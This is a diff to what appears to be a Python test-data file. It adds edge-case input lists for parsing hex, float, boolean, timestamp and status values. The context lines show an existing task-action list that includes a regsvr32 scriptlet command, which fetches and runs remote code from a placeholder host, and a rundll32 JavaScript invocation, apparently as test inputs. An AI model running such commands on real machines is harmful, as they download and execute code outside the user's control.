@@ -106,3 +106,18 @@ TASK_ACTIONS = [
     "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "rundll32 javascript:alert(1)", "",
     "notepad.exe",
 ]
+
+HEX_VALUES = ["0xFF", "ff", "0x1A", "0xGG", "0x7fffffffffffffff", "-0x10", "0x_1f", "", "deadbeef",
+              "0xffffffffffffffff", "12", "  0xBEEF  ", "zz", "0X10"]
+FLOAT_VALUES = ["3.14", "42", "1e5", "-0.0", "inf", "-Infinity", "nan", "1_000.5", ".5", "5.", "abc",
+                "12345678.9", "0.0001", "0.00001", "1e16", "123456789012345678", " 2.5 ", "", "1.5.2",
+                "2.5e-3"]
+BOOL_VALUES = ["true", "False", "YES", "no", "1", "0", "maybe", "", " TRUE ", "t"]
+TS_VALUES = [
+    "2024-01-15T10:30:00", "2024-01-15T10:30:00.5", "2024-01-15 10:30:00.123456",
+    "2024/01/15 10:30:00", "01/02/2024 10:30:00", "13/02/2024 10:30:00", "2024-01-15", "1/5/2024",
+    "1705312200", "1705312200123", "20240115", "2024-02-30", "not a date", "", "2024-1-5 3:4:5",
+    "2024-01-15T10:30:00.1234567", "2024-01-15  10:30:00", "-1", "99999999999999999",
+    "31/12/2024 23:59:59", "2024-01- 5", "2024-01-15 10:30:60",
+]
+STATUS_VALUES = ["O", "F", "P", ""]
